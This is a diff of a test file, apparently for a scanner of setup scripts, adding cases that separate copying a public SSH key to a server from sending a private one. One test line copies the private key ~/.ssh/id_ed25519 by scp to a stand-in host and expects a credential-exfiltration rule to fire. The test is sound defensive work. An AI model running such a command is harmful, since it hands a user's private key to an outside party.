@@ -78,3 +78,12 @@ describe('phish.fake-sudo', () => {
     }
   });
 });
+
+describe('SSH keys', () => {
+  it('a public key (id_ed25519.pub) copied to a server is not the private key sent', () => {
+    for (const text of ['scp ~/.ssh/id_ed25519.pub deploy@build.example:/tmp/\n', 'cat ~/.ssh/id_rsa.pub | ssh deploy@build.example "cat >> ~/.ssh/authorized_keys"\n']) {
+      expect(rulesIn('setup.sh', text), text).toEqual([]);
+    }
+    expect(rulesIn('setup.sh', 'scp ~/.ssh/id_ed25519 deploy@drop.example:/tmp/\n')).toContain('exfil.credential-send');
+  });
+});
